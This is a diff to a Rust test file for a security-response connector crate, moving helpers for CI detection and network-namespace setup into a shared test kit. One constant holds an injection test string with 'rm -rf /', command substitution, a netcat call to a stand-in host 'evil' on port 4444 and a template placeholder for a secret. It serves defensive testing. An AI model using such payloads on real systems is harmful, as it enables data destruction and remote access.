@@ -13,16 +13,12 @@ use std::time::Duration;
 use secops_respond::connector::{deliver, verify, Operation, Prepare, Request};
 use secops_respond::template::Context;
 use secops_respond::{Config, Secrets, Target, TargetKind};
-use secops_testkit::{http_receiver, Received};
+use secops_testkit::{http_receiver, under_ci, Received};
 use serde_json::{json, Value};
 
 /// A value an attacker could write into a log line.
 const HOSTILE: &str =
     "x'; rm -rf / #\n$(id) `uname` | nc evil 4444 && {{ alert.secret }} <!channel> %s";
-
-fn under_ci() -> bool {
-    std::env::var("CI").is_ok_and(|v| v == "true")
-}
 
 /// Answers each request with the next status, handing over what it got.
 fn receiver(statuses: Vec<u16>) -> (String, mpsc::Receiver<Received>) {
@@ -243,41 +239,11 @@ params = { options = ["--user={{ alert.user.name }}"] }
     assert!(err.to_string().contains("options are constants"), "{err}");
 }
 
-fn nft_ready() -> bool {
-    Command::new("nft")
-        .arg("--version")
-        .output()
-        .is_ok_and(|o| o.status.success())
-        && Command::new("ip")
-            .arg("-V")
-            .output()
-            .is_ok_and(|o| o.status.success())
-}
-
-struct Netns(String);
-
-impl Drop for Netns {
-    fn drop(&mut self) {
-        let _ = Command::new("ip").args(["netns", "del", &self.0]).status();
-    }
-}
-
 #[test]
 fn nftables_blocks_and_unblocks_an_address_inside_a_network_namespace() {
-    if !nft_ready() {
-        assert!(
-            !under_ci(),
-            "nft and ip are needed under CI (Debian's nftables and iproute2)"
-        );
-        eprintln!("skipped: nft or ip missing");
+    let Some(ns) = secops_testkit::Netns::new("respond") else {
         return;
-    }
-    let ns = Netns(format!("secops-respond-{}", std::process::id()));
-    let made = Command::new("ip")
-        .args(["netns", "add", &ns.0])
-        .status()
-        .unwrap();
-    assert!(made.success(), "ip netns add (the test needs root)");
+    };
     let config = Config::parse(
         "respond.toml",
         &format!(
